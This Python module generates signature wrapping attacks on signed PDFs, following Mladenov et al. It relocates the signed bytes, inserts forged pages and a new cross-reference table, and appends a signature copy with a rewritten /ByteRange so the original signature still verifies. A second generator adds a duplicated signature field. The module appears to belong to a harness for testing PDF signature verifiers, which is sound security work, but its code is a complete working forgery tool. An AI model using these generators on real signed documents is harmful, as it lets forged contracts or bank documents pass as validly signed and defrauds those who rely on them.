"""Signature wrapping attacks (SWA): the signed bytes kept, the /ByteRange moved around new content.

After Mladenov et al. (CCS 2019), section "Signature Wrapping Attack". The signed second part of the
file is moved further on; the freed space holds forged objects and a new cross-reference table placed
exactly where the signed ``startxref`` points; a copy of the signature dictionary with a /ByteRange
that skips the forged space, and a /Contents padded to the gap's length, is appended at the end. The
hashed bytes are unchanged, so the signature value still verifies.
"""

from __future__ import annotations

import io

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

from .documents import StationLike
from .pdfbytes import append_revision, body, facts, forged_page, indirect, serialize, trailer, xref_table


def relocate_last_signature(pdf: bytes) -> bytes:
    """Wrap the newest signature (see the module's description)."""
    reader = PdfFileReader(io.BytesIO(pdf))
    doc = facts(pdf)
    last = reader.xrefs.total_revisions - 1
    signature = next(s for s in reader.embedded_signatures if s.signed_revision == last)
    _, signed_len, gap_end, tail_len = (int(v) for v in signature.byte_range)
    old_sig = signature.sig_object.container_ref
    field_ref = signature.sig_field.container_ref
    new_sig = max(doc.size, 1000)

    field = generic.DictionaryObject(signature.sig_field)
    field[generic.NameObject("/V")] = generic.IndirectObject(new_sig, 0, None)
    forged = {**forged_page(doc), field_ref.idnum: serialize(field)}
    objects, offsets = body(forged, signed_len)
    # the new table goes where the signed startxref points; it lists everything of the last revision
    listed = {}
    for number, (_, offset) in reader.xrefs.get_xref_data(last).standard_xrefs.items():
        if number != old_sig.idnum:
            listed[number] = offset
    listed.update(offsets)
    xref_at = doc.startxref
    if signed_len + len(objects) > xref_at:
        raise ValueError("the forged objects do not fit before the signed startxref")
    filler = b" " * (xref_at - signed_len - len(objects))
    moved_by = None  # the shift of the second signed part, known once the table's length is
    for _ in range(3):  # the table's offsets depend on the shift and the shift on the table's length
        shifted = {n: (o + moved_by if moved_by is not None and o >= gap_end else o) for n, o in listed.items()}
        shifted[new_sig] = 0  # placeholder, filled below
        table = xref_table(shifted) + trailer(doc, new_sig + 1, doc.revision_xrefs[-2])
        gap = len(objects) + len(filler) + len(table)
        gap += gap % 2  # the new /Contents is a hex string: an even number of digits plus <>
        moved_by = signed_len + gap - gap_end
    second_start = signed_len + gap
    sig_at = second_start + tail_len
    shifted[new_sig] = sig_at
    table = xref_table(shifted) + trailer(doc, new_sig + 1, doc.revision_xrefs[-2])
    space = objects + filler + table
    space += b" " * (gap - len(space))
    contents = signature.pkcs7_content.ljust((gap - 2) // 2, b"\0")
    sig_dict = generic.DictionaryObject(signature.sig_object)
    sig_dict[generic.NameObject("/ByteRange")] = generic.ArrayObject(
        [generic.NumberObject(v) for v in (0, signed_len, second_start, tail_len)])
    sig_dict[generic.NameObject("/Contents")] = generic.ByteStringObject(contents)
    appended = indirect(new_sig, serialize(sig_dict)) + b"startxref\n%d\n%%%%EOF\n" % xref_at
    return pdf[:signed_len] + space + pdf[gap_end:gap_end + tail_len] + appended


def duplicated_signature(pdf: bytes) -> bytes:
    """A second field whose value is a copy of the newest signature, added with a forged page."""
    reader = PdfFileReader(io.BytesIO(pdf))
    doc = facts(pdf)
    signature = reader.embedded_signatures[-1]
    field_number, sig_number = doc.size + 2, doc.size + 3
    root = generic.DictionaryObject(reader.root)
    form = generic.DictionaryObject(reader.root["/AcroForm"])
    fields = form["/Fields"]
    form[generic.NameObject("/Fields")] = generic.ArrayObject(
        [*(fields.raw_get(i) for i in range(len(fields))), generic.IndirectObject(field_number, 0, None)])
    root[generic.NameObject("/AcroForm")] = form
    field = generic.DictionaryObject({
        generic.NameObject("/FT"): generic.NameObject("/Sig"),
        generic.NameObject("/T"): generic.TextStringObject("bank2"),
        generic.NameObject("/V"): generic.IndirectObject(sig_number, 0, None),
    })
    objects = {**forged_page(doc), int(doc.root.split()[0]): serialize(root),
               field_number: serialize(field), sig_number: serialize(generic.DictionaryObject(signature.sig_object))}
    return append_revision(pdf, objects)


def relocated_only_signature(station: StationLike) -> bytes:
    """Wrap the only signature of a document the bank alone has signed (nothing else can give it away)."""
    return relocate_last_signature(station.bank_only())


GENERATORS = {
    "swa-relocated": relocate_last_signature,
    "swa-duplicated-signature": duplicated_signature,
}
PREPARED = {"swa-relocated-only-signature": relocated_only_signature}
